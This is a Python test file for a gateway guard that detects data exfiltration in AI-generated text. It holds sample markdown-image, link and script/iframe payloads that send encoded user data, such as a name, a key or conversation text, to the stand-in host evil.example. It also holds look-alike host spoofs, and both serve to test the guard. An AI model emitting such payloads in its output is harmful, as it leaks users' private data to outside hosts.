"""The guard `exfiltration`: addresses that would carry data to a stranger, whole and in pieces."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from gateway.guards.exfiltration import ExfiltrationConfig, build
from tests.guards.streams import check_settled, check_stream, growth, spans

GUARD = build(ExfiltrationConfig(allow_hosts=("docs.example.com", "*.trusted.example")))
DATA = base64.b64encode(b"the user's name is Alice and her key is 1234").decode().rstrip("=")

BAD = [
    ("image-with-data", "![x](", f"https://evil.example/p.png?d={DATA}", ")"),
    ("image-with-data", "![](", "https://evil.example/i?q=the+user+asked+about+her+salary", ")"),
    ("image-with-data", "![a](<", "https://evil.example/i?q=my%20name%20is%20alice%20and%20more", ">)"),
    ("image-with-data", "![a](", "//evil.example/i?q=aB3dE5fG7hJ9kL1mN3pQ", ")"),
    ("image-with-data", '<img width=1 src="', f"http://evil.example/{DATA}.gif", '">'),
    ("image-with-data", "![a](", f"https://{DATA.lower()[:50]}.evil.example/x", ")"),
    ("image-with-data", "text\n[ref]: ", "https://evil.example/i?k=aB3dE5fG7hJ9kL1mN3pQ", "\n![a][ref]"),
    ("link-with-data", "[click](", f"https://evil.example/?c={DATA}", ")"),
    ("link-with-data", "see ", f"https://evil.example/log?c={DATA}", " now"),
    ("link-with-data", "see ", "https://evil.example/log?t=" + "the+whole+talk+we+had+" * 4, "."),
    ("link-with-data", "(", "HTTPS://evil.example/?h=" + b"the api key is abcdef".hex(), ")"),
    ("active-tag", "", "<script", ">fetch('//x')</script>"),
    ("active-tag", "hi ", "<IFRAME", " src=x>"),
]  # fmt: skip

GOOD = [
    "![logo](https://images.example.org/logo.png)",
    "![plot](https://images.example.org/plot.png?width=800&height=600)",
    "See https://en.wikipedia.org/wiki/Markdown_syntax_and_its_many_different_variants for more.",
    "[docs](https://other.example/guide/how-to-configure-the-gateway-for-production-use#step-3)",
    "https://shop.example/list?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024_germany",
    "https://github.com/o/r/commit/3f786850e387550fdab836ed7e6dc881de23001b",
    "https://maps.example/?q=berlin+main+station",
    "https://video.example/watch?v=dQw4w9WgXcQ&t=42s",
    f"![ours](https://docs.example.com/i.png?d={DATA})",
    f"![ours](https://a.b.trusted.example/i.png?d={DATA})",
    f"https://trusted.example:8443/?d={DATA}",
    "The http protocol, an <image> tag, a // comment and 3 < 4.",
    "https://id.example/550e8400-e29b-41d4-a716-446655440000/edit",
]  # fmt: skip


@pytest.mark.parametrize(("rule", "before", "bad", "after"), BAD)
def test_an_address_that_carries_data_is_found_and_nothing_around_it(rule, before, bad, after):
    assert spans(GUARD, before + bad + after)[:1] == [(rule, len(before), len(before) + len(bad))]


@pytest.mark.parametrize("text", GOOD)
def test_an_ordinary_address_passes(text):
    assert spans(GUARD, text) == []


@pytest.mark.parametrize(
    "host", ["docs.example.com.evil.example", "docs.example.com@evil.example", "evil.example/docs.example.com", "xdocs.example.com"]
)  # fmt: skip
def test_a_host_that_only_looks_allowed_is_not(host):
    assert spans(GUARD, f"![x](https://{host}/i?d={DATA})")


def test_actions_are_the_operators():
    text = f"![x](https://e.example/?d={DATA}) https://e.example/?d={DATA} <script>"
    assert [f.action for f in GUARD.find(text, "t")] == ["redact", "flag", "redact"]
    strict = build(ExfiltrationConfig(image="block", link="block", html="block"))
    assert {f.action for f in strict.find(text, "t")} == {"block"}


@pytest.mark.parametrize("host", ["Example.com", "https://example.com", "exa mple.com", "*", "a.*.com", ""])
def test_an_allowed_host_is_a_host(host):
    with pytest.raises(ValidationError):
        ExfiltrationConfig(allow_hosts=(host,))


@pytest.mark.parametrize("text", ["", "Prose flows. ", "With the path", "a < b", "(see", "![x]("])
def test_prose_is_not_held(text):
    assert GUARD.settled(text) == len(text)


@pytest.mark.parametrize(
    ("text", "held"),
    [("see h", "h"), ("see https:/", "https:/"), ("go https://a.example/?x=1", "https://a.example/?x=1"), ("a <scr", "<scr"), ("](//e", "//e"), ("x](/", "/")],
)  # fmt: skip
def test_what_may_become_an_address_is_held(text, held):
    assert GUARD.settled(text) == len(text) - len(held)


_PARTS = st.one_of(
    st.sampled_from([before + bad + after for _, before, bad, after in BAD] + GOOD).flatmap(
        lambda text: st.one_of(
            st.just(text),
            st.tuples(st.integers(0, len(text)), st.integers(0, len(text))).map(lambda cut: text[min(cut) : max(cut)]),
        )
    ),
    st.sampled_from(["h", "http", "https://", "//", "](", "![", "<", "<img ", " ", "\n", ".", DATA, "é", "[a]: ", "?d="]),
    st.text(max_size=5),
)  # fmt: skip
_TEXTS = st.lists(_PARTS, min_size=1, max_size=7).map("".join)


@given(text=_TEXTS, data=st.data())
@settings(max_examples=200, deadline=None)
def test_what_is_settled_stays(text, data):
    check_settled(GUARD, text, data.draw(st.integers(0, len(text))))


@given(text=_TEXTS, cuts=st.lists(st.integers(0, 600), max_size=12))
@settings(max_examples=200, deadline=None)
def test_a_stream_gives_what_the_whole_text_gives(text, cuts):
    check_stream(GUARD, text, cuts)


@pytest.mark.parametrize(("rule", "before", "bad", "after"), BAD)
def test_a_stream_of_single_characters_gives_what_the_whole_text_gives(rule, before, bad, after):
    text = before + bad + after
    check_stream(GUARD, text, range(len(text)))


@pytest.mark.parametrize("piece", ["a", "http://", "h", "](//", "![", "<img ", "https://a?b=", "<", "\n["])
@pytest.mark.slow
def test_a_hostile_text_costs_no_more_per_kilobyte_when_it_is_longer(piece):
    assert growth(GUARD, piece, bound=3) <= 3
